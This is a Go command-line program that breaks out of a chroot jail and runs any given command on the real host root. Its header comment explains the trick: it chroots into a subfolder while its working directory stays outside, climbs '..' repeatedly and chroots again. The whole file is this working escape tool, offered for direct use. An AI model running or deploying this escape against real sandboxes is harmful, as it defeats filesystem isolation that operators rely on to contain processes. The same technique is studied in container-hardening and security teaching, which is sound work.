//go:build linux

// Command escape breaks out of a chroot and runs a command outside of it. It needs
// what root has: CAP_SYS_CHROOT.
//
//	escape CMD [ARG...]
//
// chroot(2) moves a process's root and leaves its working directory where it is. So a
// process that calls chroot once more, on a folder below, finds itself outside of its
// own root, and there ".." goes on up to the real one: nothing stops it there, since
// only one's own root does.
package main

import (
	"fmt"
	"os"
	"os/exec"
	"syscall"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: escape CMD [ARG...]")
		os.Exit(2)
	}
	check("mkdir", os.MkdirAll("/tmp/below", 0o755))
	check("chdir", os.Chdir("/"))
	check("chroot", syscall.Chroot("/tmp/below")) // the working directory is now above the root
	for range 100 {
		check("chdir", os.Chdir(".."))
	}
	check("chroot", syscall.Chroot("."))
	path, err := exec.LookPath(os.Args[1])
	check("find", err)
	check("exec", syscall.Exec(path, os.Args[1:], os.Environ()))
}

func check(what string, err error) {
	if err != nil {
		fmt.Fprintf(os.Stderr, "escape: %s: %v\n", what, err)
		os.Exit(1)
	}
}
